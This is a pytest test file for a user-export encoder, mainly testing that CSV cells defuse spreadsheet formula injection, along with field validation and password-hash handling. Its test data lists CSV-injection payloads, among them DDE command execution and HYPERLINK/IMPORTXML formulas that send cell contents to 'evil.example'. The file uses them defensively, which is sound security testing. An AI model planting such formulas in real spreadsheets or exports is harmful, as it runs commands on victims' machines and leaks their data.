"""The forms of an export: columns, formulas, JSON."""

import csv
import io
import json
import re
from typing import Any

import pytest
from denizen.importing.formulas import defused, restored

from services.domain.refusals import Refusal
from services.transfer.forms import FIELDS, HASH, Encoder, ExportForm, check
from tests.support.accounts import Json

USER: Json = {
    "id": "user_1",
    "externalId": None,
    "email": "ada@example.com",
    "emailVerified": True,
    "status": "ACTIVE",
    "profile": {"firstName": "Ada", "lastName": 'O"Neil, jr'},
    "metadata": {"plan": "=cmd|' /C calc'!A0", "n": -5, "deep": {"a": [1]}},
    "appMetadata": {},
    "identities": [],
    "loginCount": 0,
    "version": 1,
}
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "-2+3+cmd|' /C calc'!D2",
    '=DDE("cmd";"/C calc";"x")',
    "'=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "  =1+1",
    "\u3000\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "'\uff1d1+1",
    "\ufe661+1",
    "\ufe6bSUM(1+1)",
    "\u2028=1+1",
    "\x85\u200d-1+1",
]
"""OWASP, CSV injection; payloadsallthethings; and one that looks defused already."""


def encoded(
    form: ExportForm, *documents: Json, fields: list[str] | None = None, raw: bool = False, hash: str | None = None
) -> str:
    encoder = Encoder(form, fields or [], raw=raw)
    pieces = [encoder.users([(json.dumps(document), hash)]) for document in documents]
    return (encoder.head() + b"".join(pieces) + encoder.tail()).decode()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_defused_in_every_cell(formula: str) -> None:
    user = USER | {"email": formula, "profile": {"firstName": formula}, "metadata": {"plan": formula, "all": [formula]}}
    fields = ["email", "profile.firstName", "metadata.plan", "metadata", "metadata.all"]
    _, found = cells(encoded("csv", user, fields=fields))
    assert found[:3] == [defused(formula)] * 3
    assert found[0].startswith("'")
    assert not [cell for cell in found if cell.startswith(tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"))]
    assert [restored(cell) for cell in found[:3]] == [formula] * 3
    _, raw = cells(encoded("csv", user, fields=fields, raw=True))
    assert raw[:3] == [formula] * 3
    assert json.loads(raw[3])["plan"] == formula


def test_csv_has_a_column_for_each_field_of_a_profile() -> None:
    head, row = cells(encoded("csv", USER))
    found = dict(zip(head, row, strict=True))
    assert HASH not in head
    assert [name for name in head if name.startswith("profile")] == [
        f"profile.{name}" for name in ("firstName", "lastName", "displayName", "picture", "locale", "timezone")
    ]
    assert (found["profile.lastName"], found["emailVerified"], found["externalId"]) == ('O"Neil, jr', "true", "")
    assert json.loads(found["metadata"]) == USER["metadata"]


def test_negative_numbers_are_not_defused() -> None:
    assert cells(encoded("csv", USER, fields=["metadata.n"]))[1] == ["-5"]


def test_export_has_the_chosen_fields() -> None:
    fields = ["email", "profile.firstName", "metadata.deep", "metadata.none", "appMetadata.x", "externalId"]
    (line,) = encoded("jsonl", USER, fields=fields).splitlines()
    assert json.loads(line) == {
        "email": "ada@example.com",
        "profile": {"firstName": "Ada"},
        "metadata": {"deep": {"a": [1]}},
        "appMetadata": {},
        "externalId": None,
    }


NESTED: Json = USER | {
    "metadata": {"address": {"city": "Bern", "geo": {"lat": 46.9}, "b.c": 1}, "address.zip": "3011", "n": 1},
    "appMetadata": {"a.b": {"c.d": "deep"}, "=": {"+": "=1"}},
}


@pytest.mark.parametrize(
    ("field", "cell", "object"),
    [
        ("metadata.address.city", "Bern", {"metadata": {"address": {"city": "Bern"}}}),
        ("metadata.address.geo.lat", "46.9", {"metadata": {"address": {"geo": {"lat": 46.9}}}}),
        ("metadata.address.geo", '{"lat":46.9}', {"metadata": {"address": {"geo": {"lat": 46.9}}}}),
        ("metadata.address.zip", "3011", {"metadata": {"address.zip": "3011"}}),
        ("metadata.address.b.c", "1", {"metadata": {"address": {"b.c": 1}}}),
        ("appMetadata.a.b.c.d", "deep", {"appMetadata": {"a.b": {"c.d": "deep"}}}),
        ("appMetadata.=.+", "'=1", {"appMetadata": {"=": {"+": "=1"}}}),
        ("metadata.address.none", "", {"metadata": {}}),
        ("metadata.n.none", "", {"metadata": {}}),
        ("metadata.none.city", "", {"metadata": {}}),
    ],
)
def test_nested_fields_are_resolved(field: str, cell: str, object: Json) -> None:
    assert cells(encoded("csv", NESTED, USER, fields=["id", field]))[1] == ["user_1", cell]
    assert json.loads(encoded("jsonl", NESTED, fields=[field])) == object


@pytest.mark.parametrize("count", [0, 1, 3])
def test_pieces_of_a_json_export_form_one_array(count: int) -> None:
    users: list[Any] = json.loads(encoded("json", *[USER] * count))
    assert users == [USER] * count
    encoder = Encoder("json", [], raw=False)
    text = encoder.head() + encoder.users([]) + encoder.users([(json.dumps(USER), None)] * count) + encoder.tail()
    assert json.loads(text) == [USER] * count


def test_export_has_a_hash_if_requested_and_present() -> None:
    fields = ["email", HASH]
    assert json.loads(encoded("jsonl", USER, fields=fields, hash="canary"))[HASH] == "canary"
    assert json.loads(encoded("jsonl", USER, fields=fields))[HASH] is None
    for form in ("jsonl", "json", "csv"):
        assert "canary" not in encoded(form, USER, fields=["email"], hash="canary")
        assert "canary" not in encoded(form, USER, hash="canary")


@pytest.mark.parametrize(
    "field",
    [
        "",
        "canary",
        "profile.",
        "profile.canary",
        "email.x",
        "passwordHash.x",
        "metadata.",
        "*",
        "id,email",
        "profile.firstName.x",
    ],
)
def test_unknown_field_is_refused(field: str) -> None:
    with pytest.raises(Refusal) as refusal:
        check(["id", field], hashes=True)
    assert (refusal.value.code, refusal.value.field) == ("validation_failed", "fields.1")
    assert "canary" not in refusal.value.message
    assert "profile.firstName" in refusal.value.message


def test_known_field_is_accepted() -> None:
    check([*FIELDS, "profile.firstName", "metadata.a.b", "appMetadata.=1"], hashes=True)
    with pytest.raises(Refusal) as refusal:
        check([HASH], hashes=False)
    assert refusal.value.code == "forbidden"


@pytest.mark.parametrize("cut", [";", "\t", "\n", "\r\n"])
def test_cell_that_another_separator_would_cut_begins_no_formula(cut: str) -> None:
    cell = f"Ada{cut}=1+1{cut} @SUM(1){cut}2"
    user = USER | {"profile": {"firstName": cell}, "metadata": {"all": [f"x;{cell}"]}}
    _, found = cells(encoded("csv", user, fields=["profile.firstName", "metadata"]))
    for part in re.split("[;\t\r\n]", found[0] + ";" + found[1]):
        assert part.strip()[:1] not in tuple("=@")
    assert restored(found[0]) == cell
    assert json.loads(restored(found[1])) == user["metadata"]
    _, raw = cells(encoded("csv", user, fields=["profile.firstName"], raw=True))
    assert raw == [cell]
